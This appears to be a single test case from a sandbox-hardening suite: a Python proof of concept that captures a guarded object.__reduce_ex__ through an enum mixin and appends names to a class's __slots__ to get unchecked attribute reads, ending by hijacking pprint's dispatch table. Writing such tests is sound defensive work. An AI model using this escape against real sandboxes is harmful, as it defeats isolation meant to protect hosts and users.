# technique: the class-body __slots__ list stays in the class dict as the same mutable list; appending to it (P.__slots__.append, a read of an allowed dunder + list method, no type setattr) feeds copyreg._slotnames, so the guarded object.__reduce_ex__ (captured via enum, case 382) does an unchecked getattr of any name on a user instance: PrettyPrinter._dispatch (real class table -> stdlib pprint rewired), private stdlib helpers, and __getattribute__ (a reusable unchecked getattr on the instance)
# expect: any
import enum, pprint
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]                                   # guarded object.__reduce_ex__
class P(pprint.PrettyPrinter):
    __slots__ = []                             # legal, checked at creation
P.__slots__.append("_dispatch")                # no setattr on the class: the guard never sees it
P.__slots__.append("_safe_repr")
P.__slots__.append("__getattribute__")
state, slots = red(P(), 2)[2]
d = slots["_dispatch"]
print("PrettyPrinter._dispatch:", type(d).__name__, len(d), list(d.values())[0])
print("private stdlib method:", slots["_safe_repr"])
ga = slots["__getattribute__"]
print("unchecked getattr on the instance:", ga, ga("_format"), ga("__reduce_ex__"))
d[list.__repr__] = lambda self, obj, stream, *a: stream.write("<pprint hijacked by user code>")
pprint.pprint([1] * 100)
